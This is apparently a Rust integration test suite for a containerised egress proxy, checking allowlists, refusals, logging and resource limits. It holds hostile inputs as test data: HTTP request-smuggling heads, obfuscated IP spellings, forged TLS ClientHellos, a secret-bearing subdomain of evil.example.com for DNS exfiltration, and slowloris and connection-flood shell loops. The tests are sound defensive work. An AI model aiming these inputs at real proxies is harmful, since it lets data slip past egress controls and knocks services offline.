//! The egress gate on its own, in its container on a fixture network:
//! fixtures play "the internet" (a sink, a DNS server that records
//! queries), a client container asks through the gate. Every refusal is
//! paired with a request that does get through, so "nothing arrived"
//! cannot come from a broken fixture.

use std::time::Duration;

use bollard::Docker;
use bollard::container::LogOutput;
use bollard::models::{
    ContainerCreateBody, EndpointSettings, HostConfig, NetworkingConfig, ResourcesUlimits,
};
use bollard::query_parameters::{
    AttachContainerOptions, CreateContainerOptions, InspectContainerOptions, LogsOptions,
    StartContainerOptions,
};
use futures_util::StreamExt;
use serde_json::Value;
use tokio::io::AsyncWriteExt;

use crate::support::{
    BASE_IMAGE, FIXTURES_IMAGE, GATE_IMAGE, Service, TEST_LABEL, TestContainer, TestNetwork,
    engine_with, exec, fixture_json, run_label,
};

/// A gate between a client and the fixtures, all on one internal network.
pub(crate) struct World {
    docker: Docker,
    sink: String,
    dns: String,
    gate: TestContainer,
    /// Holding it keeps the gate's stdin open; dropping it ends the gate.
    gate_stdin: tokio::sync::Mutex<Option<std::pin::Pin<Box<dyn tokio::io::AsyncWrite + Send>>>>,
    client: TestContainer,
    /// How many flushes the test asked of the gate.
    flushes: std::sync::atomic::AtomicUsize,
    // Dropped last: the containers above must go first.
    _services: Vec<TestContainer>,
    _network: TestNetwork,
}

/// What a world has beyond the usual fixtures.
#[derive(Default)]
pub(crate) struct Setup<'a> {
    /// The most descriptors the gate may open.
    pub(crate) files: Option<i64>,
    /// More `name=address` records for the fixture DNS.
    pub(crate) records: &'a str,
    /// A TLS server (`tls.test:443`) serving this certificate and key.
    pub(crate) tls: Option<&'a std::path::Path>,
}

impl World {
    pub(crate) async fn new(test: &str, gate_args: &[&str]) -> Option<Self> {
        Self::with(test, gate_args, Setup::default()).await
    }

    /// A world whose gate may open at most `files` descriptors.
    async fn with_files(test: &str, gate_args: &[&str], files: Option<i64>) -> Option<Self> {
        let setup = Setup {
            files,
            ..Setup::default()
        };
        Self::with(test, gate_args, setup).await
    }

    pub(crate) async fn with(test: &str, gate_args: &[&str], setup: Setup<'_>) -> Option<Self> {
        let docker = engine_with(test, &[GATE_IMAGE, FIXTURES_IMAGE, BASE_IMAGE]).await?;
        let label = run_label(&format!("gate-{test}"));
        let network = TestNetwork::create(&docker, &label).await;
        // 5432 carries another protocol, and 2525's server speaks first.
        let (sink_container, sink) = Service::sink(&network, "sink")
            .env("SINK_PORTS", "80,443,8443,8080,5432,2525")
            .env("SINK_GREETS", "2525")
            .start(&docker, &label)
            .await;
        // The client has nothing listening: a dial to it is refused at once.
        let (client, client_ip) = Service::idle(BASE_IMAGE, &network, "client")
            .start(&docker, &label)
            .await;
        let mut services = vec![sink_container];
        let mut records = format!(
            "allowed.test={sink},other.test={sink},notprivate.test={sink},\
             fallback.test={client_ip},fallback.test={sink},down.test={client_ip},{}",
            setup.records
        );
        if let Some(dir) = setup.tls {
            let (server, address) = Service::new(FIXTURES_IMAGE, &network)
                .cmd(&["npm-registry"])
                .env("NPM_PACKAGES", "[]")
                .env("NPM_LISTEN", "0.0.0.0:443")
                .env("NPM_TLS_CERT", "/tls/server.pem")
                .env("NPM_TLS_KEY", "/tls/server.key")
                .bind(dir, "/tls")
                .start(&docker, &label)
                .await;
            services.push(server);
            records = format!("{records},tls.test={address}");
        }
        let (dns_container, dns) = Service::new(FIXTURES_IMAGE, &network)
            .cmd(&["fixture-dns"])
            .env("DNS_RECORDS", &records)
            .alias("dns")
            .start(&docker, &label)
            .await;
        let dns_arg = format!("{dns}:53");
        let mut args = vec![
            "--allow",
            "allowed.test",
            "--allow",
            "allowed.test:8443",
            "--allow",
            "notprivate.test",
            "--private",
            "allowed.test",
            "--private",
            "allowed.test:8443",
            "--allow",
            "fallback.test",
            "--private",
            "fallback.test",
            "--allow",
            "down.test",
            "--private",
            "down.test",
            "--dns",
            &dns_arg,
        ];
        args.extend(gate_args);
        let (gate, gate_stdin) = start_gate(&docker, &label, &network, &args, setup.files).await;
        services.push(dns_container);
        let world = Self {
            docker,
            sink,
            dns,
            gate,
            gate_stdin: tokio::sync::Mutex::new(Some(gate_stdin)),
            flushes: std::sync::atomic::AtomicUsize::new(0),
            client,
            _services: services,
            _network: network,
        };
        // Up when its health endpoint answers through the network.
        let (code, out) = world.sh("for i in $(seq 50); do curl -fs http://gate:3128/healthz && exit 0; sleep 0.1; done; exit 1").await;
        assert_eq!((code, out.trim()), (0, "ok"), "the gate never answered");
        Some(world)
    }

    pub(crate) async fn sh(&self, script: &str) -> (i64, String) {
        exec(&self.docker, &self.client.id, &["bash", "-c", script], &[]).await
    }

    /// Sends `request` raw to the gate and returns what came back.
    pub(crate) async fn raw(&self, request: &str) -> String {
        let script =
            "exec 3<>/dev/tcp/gate/3128 && printf '%s' \"$REQUEST\" >&3 && timeout 5 cat <&3; true";
        let exec_env = format!("REQUEST={request}");
        exec(
            &self.docker,
            &self.client.id,
            &["bash", "-c", script],
            &[&exec_env],
        )
        .await
        .1
    }

    pub(crate) fn sink_records(&self) -> Vec<Value> {
        fixture_json(&self.sink, 9999, "/_records")
    }

    fn dns_queries(&self) -> Vec<String> {
        let queries: Vec<Value> = fixture_json(&self.dns, 9999, "/_queries");
        queries
            .iter()
            .map(|q| q["name"].as_str().unwrap().to_owned())
            .collect()
    }

    /// The gate's decision log so far, one JSON value per line.
    /// The gate's log, with every decision made so far in it: the gate is
    /// asked to flush (on its stdin) and its log read until it has.
    pub(crate) async fn log(&self) -> Vec<Value> {
        let mut text = String::new();
        let mut asked = 0;
        if let Some(stdin) = self.gate_stdin.lock().await.as_mut() {
            stdin.write_all(b"flush\n").await.unwrap();
            stdin.flush().await.unwrap();
            asked = self
                .flushes
                .fetch_add(1, std::sync::atomic::Ordering::SeqCst)
                + 1;
        }
        let flushed = |text: &str| {
            text.lines()
                .filter(|l| l.contains(r#""event":"flushed""#))
                .count()
        };
        let deadline = std::time::Instant::now() + Duration::from_secs(10);
        while text.is_empty() || flushed(&text) < asked {
            assert!(
                std::time::Instant::now() < deadline,
                "the gate never flushed: {text}"
            );
            text.clear();
            let mut logs = self.docker.logs(
                &self.gate.id,
                Some(LogsOptions {
                    stdout: true,
                    ..Default::default()
                }),
            );
            while let Some(Ok(chunk)) = logs.next().await {
                if let LogOutput::StdOut { message } = chunk {
                    text.push_str(&String::from_utf8_lossy(&message));
                }
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        text.lines()
            .map(|l| serde_json::from_str(l).unwrap_or_else(|_| panic!("not JSON: {l}")))
            .collect()
    }

    async fn log_text(&self) -> String {
        self.log()
            .await
            .iter()
            .map(ToString::to_string)
            .collect::<Vec<_>>()
            .join("\n")
    }
}

async fn start_gate(
    docker: &Docker,
    label: &str,
    network: &TestNetwork,
    args: &[&str],
    files: Option<i64>,
) -> (
    TestContainer,
    std::pin::Pin<Box<dyn tokio::io::AsyncWrite + Send>>,
) {
    let created = docker
        .create_container(
            None::<CreateContainerOptions>,
            ContainerCreateBody {
                image: Some(GATE_IMAGE.into()),
                cmd: Some(args.iter().map(|a| (*a).to_owned()).collect()),
                labels: Some([(TEST_LABEL.to_owned(), label.to_owned())].into()),
                open_stdin: Some(true),
                stdin_once: Some(true),
                attach_stdin: Some(true),
                host_config: Some(HostConfig {
                    network_mode: Some(network.name.clone()),
                    cap_drop: Some(vec!["ALL".into()]),
                    ulimits: files.map(|n| {
                        vec![ResourcesUlimits {
                            name: Some("nofile".into()),
                            soft: Some(n),
                            hard: Some(n),
                        }]
                    }),
                    ..Default::default()
                }),
                networking_config: Some(NetworkingConfig {
                    endpoints_config: Some(
                        [(
                            network.name.clone(),
                            EndpointSettings {
                                aliases: Some(vec!["gate".into()]),
                                ..Default::default()
                            },
                        )]
                        .into(),
                    ),
                }),
                ..Default::default()
            },
        )
        .await
        .unwrap();
    let container = TestContainer::adopt(created.id);
    let attached = docker
        .attach_container(
            &container.id,
            Some(AttachContainerOptions {
                stdin: true,
                stream: true,
                ..Default::default()
            }),
        )
        .await
        .unwrap();
    docker
        .start_container(&container.id, None::<StartContainerOptions>)
        .await
        .unwrap();
    (container, attached.input)
}

/// A shell line sending `CONNECT target` raw (clients rewrite odd address
/// spellings; the gate must see them as written) and printing the answer.
pub(crate) fn raw_connect(target: &str) -> String {
    format!(
        "exec 3<>/dev/tcp/gate/3128; printf 'CONNECT {target} HTTP/1.1\\r\\n\\r\\n' >&3; timeout 5 cat <&3"
    )
}

/// The refusals in `log` for `rule`.
pub(crate) fn refusals<'a>(log: &'a [Value], rule: &str) -> Vec<&'a Value> {
    log.iter()
        .filter(|l| l["verdict"] == "refuse" && l["rule"] == rule)
        .collect()
}

#[tokio::test]
async fn allowed_http_and_connect_get_through_and_are_logged() {
    let Some(world) = World::new("allowed", &[]).await else {
        return;
    };
    let (code, out) = world
        .sh("curl -s -x http://gate:3128 http://allowed.test/hello")
        .await;
    assert_eq!((code, out.as_str()), (0, "sink\n"));
    // TLS to 443: the sink is no TLS server, but the ClientHello arrives.
    world
        .sh("curl -s --max-time 5 -x http://gate:3128 https://allowed.test/")
        .await;
    // Another listed port, no TLS required there.
    let (code, _) = world
        .sh("curl -s --max-time 5 -x http://gate:3128 -p http://allowed.test:8443/tunnelled")
        .await;
    assert_eq!(code, 0);
    let records = world.sink_records();
    let ports: Vec<u64> = records
        .iter()
        .map(|r| r["port"].as_u64().unwrap())
        .collect();
    assert_eq!(ports, [80, 443, 8443], "{records:#?}");
    assert!(
        records[0]["first_bytes"]
            .as_str()
            .unwrap()
            .starts_with("GET /hello HTTP/1.1")
    );
    assert!(
        records[1]["first_bytes"]
            .as_str()
            .unwrap()
            .starts_with('\u{16}'),
        "a TLS ClientHello"
    );
    let log = world.log().await;
    let allowed: Vec<_> = log
        .iter()
        .filter(|l| l["verdict"] == "allow")
        .map(|l| (l["method"].clone(), l["port"].clone()))
        .collect();
    assert_eq!(allowed.len(), 3, "{log:#?}");
    assert!(
        log.iter()
            .filter(|l| l["verdict"] == "allow")
            .all(|l| l["host"] == "allowed.test"
                && l["rule"].as_str().unwrap().starts_with("allowed.test"))
    );
}

#[tokio::test]
async fn each_refusal_gets_a_403_naming_its_rule_and_nothing_arrives() {
    let Some(world) = World::new("refusals", &[]).await else {
        return;
    };
    let sink = world.sink.clone();
    let octets: Vec<u32> = sink.split('.').map(|o| o.parse().unwrap()).collect();
    let as_number = octets.iter().fold(0u32, |n, o| n << 8 | o);
    let spellings = [
        sink.clone(),
        format!("{}.{}.{}", octets[0], octets[1], octets[2] << 8 | octets[3]),
        format!(
            "0x{:x}.0x{:x}.0x{:x}.0x{:x}",
            octets[0], octets[1], octets[2], octets[3]
        ),
        format!(
            "0{:o}.0{:o}.{}.{}",
            octets[0], octets[1], octets[2], octets[3]
        ),
        as_number.to_string(),
        format!("[::ffff:{sink}]"),
    ];
    let mut cases: Vec<(String, &str)> = vec![
        (
            "curl -s -w %{http_code} -x http://gate:3128 http://evil.test/".into(),
            "not-on-allowlist",
        ),
        (
            "curl -s -w %{http_code} -x http://gate:3128 http://allowed.test:8080/".into(),
            "port-not-allowed",
        ),
        (raw_connect("allowed.test:8080"), "port-not-allowed"),
        (
            "curl -s -w %{http_code} -x http://gate:3128 http://notprivate.test/".into(),
            "private-address-not-allowed",
        ),
        (
            "curl -s -w %{http_code} -x http://gate:3128 -H 'Host: other.test' http://allowed.test/".into(),
            "host-header-mismatch",
        ),
    ];
    for spelling in &spellings {
        cases.push((raw_connect(&format!("{spelling}:80")), "address-not-listed"));
    }
    for (script, rule) in &cases {
        let before = world.log().await.len();
        let (_, out) = world.sh(script).await;
        assert!(out.contains("403"), "{script}: not a 403: {out}");
        assert!(
            out.contains("egress gate refused") && out.contains(rule),
            "{script}: expected {rule} in {out}"
        );
        let log = world.log().await;
        assert!(
            log[before..]
                .iter()
                .any(|l| l["verdict"] == "refuse" && l["rule"] == *rule),
            "{script}: {:#?}",
            &log[before..]
        );
        assert!(
            world.sink_records().is_empty(),
            "{script}: the sink got something"
        );
    }
    // SNI naming another host than the CONNECT: the tunnel is closed
    // before anything is dialled.
    let (code, _) = world.sh("curl -s --max-time 5 -x http://gate:3128 --connect-to other.test:443:allowed.test:443 https://other.test/").await;
    assert_ne!(code, 0);
    let log = world.log().await;
    assert_eq!(refusals(&log, "sni-mismatch").len(), 1);
    assert!(
        !log.iter().any(|l| l["verdict"] == "allow"),
        "a refused tunnel was also logged allowed: {log:#?}"
    );
    assert!(
        world.sink_records().is_empty(),
        "the sink got the mismatched tunnel"
    );
    // The positive control, on the same gate and sink.
    let (code, out) = world
        .sh("curl -s -x http://gate:3128 http://allowed.test/")
        .await;
    assert_eq!((code, out.as_str()), (0, "sink\n"));
    assert_eq!(world.sink_records().len(), 1);
}

/// The sink's records once each of `count` connections has closed and
/// recorded everything it received.
async fn received(world: &World, count: usize) -> Vec<String> {
    let deadline = std::time::Instant::now() + Duration::from_secs(15);
    loop {
        let records = world.sink_records();
        if records.len() >= count && records.iter().all(|r| r["received"].is_string()) {
            return records
                .iter()
                .map(|r| r["received"].as_str().unwrap().to_owned())
                .collect();
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the sink never recorded {count} whole connections: {records:#?}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

#[tokio::test]
async fn plain_http_heads_a_server_could_read_otherwise_get_a_400() {
    let Some(world) = World::new("plain-http-400", &[]).await else {
        return;
    };
    // Heads a server could read otherwise than the gate: a 400, logged,
    // and nothing dialled.
    let ambiguous = [
        (
            "GET http://allowed.test/two-hosts HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.invalid\r\n\r\n",
            "more than one Host",
        ),
        (
            "GET http://allowed.test/same-twice HTTP/1.1\r\nHost: allowed.test\r\nhost: allowed.test\r\n\r\n",
            "more than one Host",
        ),
        (
            "GET http://allowed.test/bad-host HTTP/1.1\r\nHost: allowed.test:80:x\r\n\r\n",
            "not host[:port]",
        ),
        (
            "POST http://allowed.test/cl-te HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            "both Content-Length",
        ),
        (
            "POST http://allowed.test/two-lengths HTTP/1.1\r\nContent-Length: 4\r\nContent-Length: 40\r\n\r\nbody",
            "conflicting",
        ),
        (
            "POST http://allowed.test/gzip HTTP/1.1\r\nTransfer-Encoding: gzip, chunked\r\n\r\n",
            "other than chunked",
        ),
        (
            "POST http://allowed.test/strip HTTP/1.1\r\nConnection: content-length\r\nContent-Length: 4\r\n\r\nbody",
            "the request's framing",
        ),
        (
            "POST http://allowed.test/old HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            "HTTP/1.0",
        ),
    ];
    for (request, why) in ambiguous {
        let out = world.raw(request).await;
        assert!(
            out.starts_with("HTTP/1.1 400") && out.contains(why),
            "{request:?}: {out}"
        );
    }
    assert!(
        world.sink_records().is_empty(),
        "{:#?}",
        world.sink_records()
    );
    let log = world.log().await;
    assert_eq!(
        refusals(&log, "malformed-request").len(),
        ambiguous.len(),
        "{log:#?}"
    );
}

#[tokio::test]
async fn plain_http_carries_one_request_with_one_host_and_nothing_after_its_body() {
    let Some(world) = World::new("plain-http", &[]).await else {
        return;
    };
    // Not a pipelined request, not one smuggled behind a chunk.
    let requests = [
        "GET http://allowed.test/first HTTP/1.1\r\nHost: allowed.test\r\nConnection: keep-alive, X-Hop\r\nX-Hop: hop-secret\r\nProxy-Authorization: Basic cHJveHk=\r\nUpgrade: websocket\r\n\r\nGET http://evil.invalid/second HTTP/1.1\r\nHost: evil.invalid\r\n\r\n",
        "GET http://allowed.test/no-host HTTP/1.1\r\n\r\nGET /second-in-origin-form HTTP/1.1\r\nHost: evil.invalid\r\n\r\n",
        "POST http://allowed.test/chunked HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nwiki\r\n0\r\n\r\nGET http://evil.invalid/smuggled HTTP/1.1\r\n\r\n",
        "POST http://allowed.test/sized HTTP/1.1\r\nContent-Length: 4\r\n\r\nbodyGET http://evil.invalid/after-the-body HTTP/1.1\r\n\r\n",
    ];
    for request in requests {
        let out = world.raw(request).await;
        assert!(
            out.starts_with("HTTP/1.1 200") && out.ends_with("sink\n"),
            "{request:?}: {out}"
        );
        assert_eq!(out.matches("HTTP/1.").count(), 1, "one response: {out}");
    }
    let got = received(&world, requests.len()).await;
    for (sent, text) in got.iter().enumerate() {
        let hosts = text
            .lines()
            .filter(|l| l.to_ascii_lowercase().starts_with("host:"))
            .collect::<Vec<_>>();
        assert_eq!(hosts, ["Host: allowed.test"], "request {sent}: {text:?}");
        assert!(text.contains("\r\nConnection: close\r\n"), "{text:?}");
        for never in ["evil.invalid", "second", "smuggled", "after-the-body"] {
            assert!(!text.contains(never), "`{never}` went on: {text:?}");
        }
    }
    assert!(
        got[0].starts_with("GET /first HTTP/1.1\r\n"),
        "{:?}",
        got[0]
    );
    for hop in [
        "hop-secret",
        "X-Hop",
        "Proxy-Authorization",
        "Upgrade",
        "keep-alive",
    ] {
        assert!(!got[0].contains(hop), "`{hop}` went on: {:?}", got[0]);
    }
    assert!(
        got[2].ends_with("\r\n\r\n4\r\nwiki\r\n0\r\n\r\n"),
        "{:?}",
        got[2]
    );
    assert!(got[3].ends_with("\r\n\r\nbody"), "{:?}", got[3]);
    let log = world.log().await;
    let allowed = log.iter().filter(|l| l["verdict"] == "allow").count();
    assert_eq!(
        allowed,
        requests.len(),
        "each request logged once: {log:#?}"
    );
}

/// `printf` escapes for `bytes`, for a shell line to send them raw.
pub(crate) fn escaped(bytes: &[u8]) -> String {
    bytes.iter().fold(String::new(), |mut out, b| {
        let _ = std::fmt::Write::write_fmt(&mut out, format_args!("\\x{b:02x}"));
        out
    })
}

/// A shell line that opens a tunnel to `host:443` and sends `hello` raw.
fn tunnel(host: &str, hello: &[u8]) -> String {
    format!(
        "exec 3<>/dev/tcp/gate/3128; printf 'CONNECT {host}:443 HTTP/1.1\\r\\n\\r\\n' >&3; \
         printf '{}' >&3; timeout 5 cat <&3 >/dev/null; echo closed",
        escaped(hello)
    )
}

/// A minimal TLS 1.3 ClientHello with these extensions, in this order.
pub(crate) fn client_hello(extensions: &[(u16, Vec<u8>)]) -> Vec<u8> {
    let be16 = |n: usize| u16::try_from(n).unwrap().to_be_bytes();
    let mut body = Vec::new();
    for (kind, data) in extensions {
        body.extend(kind.to_be_bytes());
        body.extend(be16(data.len()));
        body.extend(data);
    }
    let mut hello = vec![3, 3];
    hello.extend([7u8; 32]);
    hello.extend([0, 0, 2, 0x13, 0x01, 1, 0]);
    hello.extend(be16(body.len()));
    hello.extend(body);
    let mut record = vec![0x16, 3, 1];
    record.extend(be16(hello.len() + 4));
    record.push(1);
    record.extend(&u32::try_from(hello.len()).unwrap().to_be_bytes()[1..]);
    record.extend(hello);
    record
}

/// A server name extension listing `names`.
pub(crate) fn server_names(names: &[&str]) -> (u16, Vec<u8>) {
    let mut list = Vec::new();
    for name in names {
        list.push(0);
        list.extend(u16::try_from(name.len()).unwrap().to_be_bytes());
        list.extend(name.as_bytes());
    }
    let mut data = u16::try_from(list.len()).unwrap().to_be_bytes().to_vec();
    data.extend(list);
    (0, data)
}

#[tokio::test]
async fn a_client_hello_whose_name_cannot_be_trusted_never_reaches_the_host() {
    let Some(world) = World::new("client-hello", &[]).await else {
        return;
    };
    let tunnel = |hello: &[u8]| tunnel("allowed.test", hello);
    let cases = [
        (
            client_hello(&[server_names(&["allowed.test"]), (0xfe0d, vec![0; 16])]),
            "encrypted-client-hello",
        ),
        (
            client_hello(&[(0xffce, vec![0; 16]), server_names(&["allowed.test"])]),
            "encrypted-client-hello",
        ),
        (
            client_hello(&[server_names(&["allowed.test", "evil.invalid"])]),
            "ambiguous-client-hello",
        ),
        (
            client_hello(&[
                server_names(&["allowed.test"]),
                server_names(&["evil.invalid"]),
            ]),
            "ambiguous-client-hello",
        ),
        (
            client_hello(&[server_names(&["evil.invalid"])]),
            "sni-mismatch",
        ),
    ];
    for (hello, rule) in &cases {
        let (_, out) = world.sh(&tunnel(hello)).await;
        assert_eq!(out.trim(), "closed");
        assert!(
            world.sink_records().is_empty(),
            "{rule}: the host was dialled"
        );
        let log = world.log().await;
        assert_eq!(
            refusals(&log, rule).last().map(|l| l["port"].clone()),
            Some(443.into()),
            "{rule}: {log:#?}"
        );
    }
    let log = world.log().await;
    assert_eq!(
        log.iter().filter(|l| l["verdict"] == "refuse").count(),
        cases.len(),
        "{log:#?}"
    );
    assert!(!log.iter().any(|l| l["verdict"] == "allow"), "{log:#?}");
    // The positive control: one plain name gets through.
    let (_, out) = world
        .sh(&tunnel(&client_hello(&[server_names(&["allowed.test"])])))
        .await;
    assert_eq!(out.trim(), "closed");
    let records = world.sink_records();
    assert_eq!(records.len(), 1, "{records:#?}");
    assert!(
        records[0]["first_bytes"]
            .as_str()
            .unwrap()
            .starts_with('\u{16}')
    );
}

#[tokio::test]
async fn each_permitted_address_is_dialled_in_turn_and_a_host_none_answers_for_is_logged() {
    let Some(world) = World::new("fallback", &[]).await else {
        return;
    };
    // fallback.test's first address refuses; its second is the sink.
    let (code, out) = world
        .sh("curl -s -x http://gate:3128 http://fallback.test/")
        .await;
    assert_eq!((code, out.as_str()), (0, "sink\n"));
    let (_, out) = world
        .sh("curl -s -o /dev/null -w %{http_code} -x http://gate:3128 http://down.test/")
        .await;
    assert_eq!(out, "502");
    // After the 200 of a TLS tunnel, the dial failure is logged too.
    let (_, out) = world
        .sh(&tunnel(
            "down.test",
            &client_hello(&[server_names(&["down.test"])]),
        ))
        .await;
    assert_eq!(out.trim(), "closed");
    let log = world.log().await;
    let decided: Vec<(String, String, String)> = log
        .iter()
        .filter(|l| l["verdict"].is_string())
        .map(|l| {
            let field = |k: &str| l[k].as_str().unwrap().to_owned();
            (field("method"), field("host"), field("verdict"))
        })
        .collect();
    let expected = [
        ("GET", "fallback.test", "allow"),
        ("GET", "down.test", "unreachable"),
        ("CONNECT", "down.test", "unreachable"),
    ]
    .map(|(m, h, v)| (m.to_owned(), h.to_owned(), v.to_owned()));
    assert_eq!(decided, expected, "{log:#?}");
    assert_eq!(world.sink_records().len(), 1);
}

#[tokio::test]
async fn a_refused_name_is_never_resolved_and_the_log_keeps_no_secrets() {
    let Some(world) = World::new("dns-and-log", &[]).await else {
        return;
    };
    let secret = "c2VjcmV0LXRva2Vu";
    world
        .sh(&format!(
            "curl -s -x http://gate:3128 http://{secret}.evil.example.com/"
        ))
        .await;
    world
        .sh("curl -s -x http://gate:3128 http://evil.test/")
        .await;
    let (code, _) = world
        .sh("curl -s -x http://gate:3128 -H 'X-Secret: header-secret-77' 'http://allowed.test/path-secret-55?query-secret-66'")
        .await;
    assert_eq!(code, 0);
    let queries = world.dns_queries();
    assert!(
        queries.iter().any(|q| q == "allowed.test"),
        "the allowed name was looked up: {queries:?}"
    );
    assert!(
        !queries.iter().any(|q| q.contains("evil")),
        "a refused name was looked up: {queries:?}"
    );
    let log = world.log_text().await;
    for hidden in [
        secret,
        "evil.test",
        "path-secret-55",
        "query-secret-66",
        "header-secret-77",
        "X-Secret",
    ] {
        assert!(!log.contains(hidden), "`{hidden}` is in the log:\n{log}");
    }
    let entries = world.log().await;
    let shown: Vec<_> = refusals(&entries, "not-on-allowlist")
        .iter()
        .map(|l| l["host"].as_str().unwrap().to_owned())
        .collect();
    assert!(shown[0].starts_with("com#"), "{shown:?}");
    assert!(shown[1].starts_with('#'), "{shown:?}");
    // The request itself still reached the sink whole.
    assert!(
        world.sink_records()[0]["first_bytes"]
            .as_str()
            .unwrap()
            .contains("path-secret-55?query-secret-66")
    );
}

#[tokio::test]
async fn bad_requests_get_4xx_bounds_hold_and_the_gate_keeps_serving() {
    let Some(world) = World::new(
        "bounds",
        &["--max-connections", "3", "--header-timeout", "2"],
    )
    .await
    else {
        return;
    };
    assert!(
        world
            .raw("GARBAGE\r\n\r\n")
            .await
            .starts_with("HTTP/1.1 400")
    );
    let huge = format!(
        "GET http://allowed.test/ HTTP/1.1\r\nX-Big: {}\r\n\r\n",
        "a".repeat(20_000)
    );
    assert!(world.raw(&huge).await.starts_with("HTTP/1.1 431"));
    assert!(
        world
            .raw("GET / HTTP/1.1\r\n\r\n")
            .await
            .starts_with("HTTP/1.1 400")
    );
    // Two idle connections plus the check fill the bound of three; a fourth
    // is turned away, and once they close the gate serves again.
    let (_, out) = world
        .sh("exec 3<>/dev/tcp/gate/3128; exec 4<>/dev/tcp/gate/3128; exec 5<>/dev/tcp/gate/3128; sleep 0.3; \
             curl -s -o /dev/null -w '%{http_code}' http://gate:3128/healthz; exec 3>&- 4>&- 5>&-")
        .await;
    assert_eq!(out, "503");
    let (_, out) = world
        .sh("sleep 0.3; curl -s http://gate:3128/healthz")
        .await;
    assert_eq!(out.trim(), "ok");
    // A connection that sends nothing is closed after the header timeout.
    let (_, out) = world.sh("exec 3<>/dev/tcp/gate/3128; start=$SECONDS; timeout 10 cat <&3; echo \"closed after $((SECONDS - start))\"").await;
    let waited: u64 = out.trim().rsplit(' ').next().unwrap().parse().unwrap();
    assert!((1..=4).contains(&waited), "{out}");
    // So is one whose head trickles in a byte at a time (slowloris).
    let (_, out) = world
        .sh("exec 3<>/dev/tcp/gate/3128; start=$SECONDS; \
             (for i in $(seq 30); do printf 'G' >&3 2>/dev/null || exit 0; sleep 0.3; done) & \
             timeout 10 cat <&3; echo \"closed after $((SECONDS - start))\"")
        .await;
    let waited: u64 = out.trim().rsplit(' ').next().unwrap().parse().unwrap();
    assert!((1..=4).contains(&waited), "{out}");
    let (code, out) = world
        .sh("curl -s -x http://gate:3128 http://allowed.test/")
        .await;
    assert_eq!((code, out.as_str()), (0, "sink\n"));
}

#[tokio::test]
async fn over_the_limit_only_a_bounded_few_are_answered_and_the_rest_are_closed() {
    let Some(world) = World::new("turned-away", &["--max-connections", "2"]).await else {
        return;
    };
    // Two idle connections fill the limit; then 150 more ask at once and
    // wait for an answer. A few tasks answer them (each lingering a
    // moment); beyond those a connection is closed unanswered, so what is
    // turned away cannot pile up tasks.
    let (code, out) = world
        .sh("trap '' PIPE; exec 3<>/dev/tcp/gate/3128 4<>/dev/tcp/gate/3128; sleep 0.3; fds=(); \
             for i in $(seq 150); do exec {fd}<>/dev/tcp/gate/3128; printf 'GET http://allowed.test/ HTTP/1.1\\r\\n\\r\\n' >&$fd 2>/dev/null; fds+=($fd); done; \
             for fd in \"${fds[@]}\"; do if timeout 3 head -c 12 <&$fd 2>/dev/null | grep -q 503; then echo answered; else echo closed; fi; done")
        .await;
    let answered = out.lines().filter(|l| *l == "answered").count();
    let closed = out.lines().filter(|l| *l == "closed").count();
    assert_eq!(answered + closed, 150, "{code}: {out}");
    assert!(answered > 0, "none got the 503: {out}");
    assert!(closed > 0, "every one of 150 got its own task: {out}");
    let (_, out) = world.sh("sleep 1; curl -s http://gate:3128/healthz").await;
    assert_eq!(out.trim(), "ok");
}

/// CPU time the container has used, in nanoseconds.
async fn cpu_used(docker: &Docker, id: &str) -> u64 {
    let mut stats = docker.stats(
        id,
        Some(bollard::query_parameters::StatsOptions {
            stream: false,
            one_shot: false,
        }),
    );
    let stats = stats.next().await.unwrap().unwrap();
    stats
        .cpu_stats
        .unwrap()
        .cpu_usage
        .unwrap()
        .total_usage
        .unwrap()
}

#[tokio::test]
async fn out_of_descriptors_the_gate_waits_instead_of_spinning_and_then_serves_again() {
    let Some(world) = World::with_files(
        "descriptors",
        &["--max-connections", "500", "--header-timeout", "8"],
        Some(48),
    )
    .await
    else {
        return;
    };
    // 80 connections that send nothing, held until the header timeout:
    // the gate runs out of descriptors and accept fails while they last.
    let client = world.client.id.clone();
    let docker = world.docker.clone();
    let holder = tokio::spawn(async move {
        exec(
            &docker,
            &client,
            &[
                "bash",
                "-c",
                "for i in $(seq 80); do exec {fd}<>/dev/tcp/gate/3128 || break; done; sleep 7",
            ],
            &[],
        )
        .await
    });
    tokio::time::sleep(Duration::from_secs(2)).await;
    let before = cpu_used(&world.docker, &world.gate.id).await;
    tokio::time::sleep(Duration::from_secs(3)).await;
    let used = cpu_used(&world.docker, &world.gate.id).await - before;
    // A loop that retried at once would burn the whole 3 s on a core.
    assert!(
        used < 1_000_000_000,
        "the gate used {used} ns of CPU in 3 s"
    );
    holder.await.unwrap();
    let (code, out) = world
        .sh("sleep 2; curl -s --max-time 10 -x http://gate:3128 http://allowed.test/")
        .await;
    assert_eq!((code, out.as_str()), (0, "sink\n"));
}

#[tokio::test]
async fn the_gate_exits_when_its_stdin_closes() {
    let Some(world) = World::new("stdin", &[]).await else {
        return;
    };
    drop(world.gate_stdin.lock().await.take());
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    loop {
        let inspect = world
            .docker
            .inspect_container(&world.gate.id, None::<InspectContainerOptions>)
            .await
            .unwrap();
        let state = inspect.state.unwrap();
        if state.running == Some(false) {
            assert_eq!(state.exit_code, Some(0));
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the gate outlived its stdin"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// The report is a convenience: a gate that cannot serve it (its port
/// taken) still starts, and still ends when its stdin closes.
#[test]
fn a_gate_whose_report_cannot_be_served_still_ends_with_its_stdin() {
    use std::io::{BufRead, BufReader};
    use std::process::{Command, Stdio};
    // Taken here, or already taken by something else: either way taken.
    let _taken = std::net::TcpListener::bind(egress_gate::REPORT_ADDRESS);
    let mut gate = Command::new(crate::support::BIN)
        .args(["gate", "--listen", "127.0.0.1:0"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut said = String::new();
    BufReader::new(gate.stderr.take().unwrap())
        .read_line(&mut said)
        .unwrap();
    assert!(
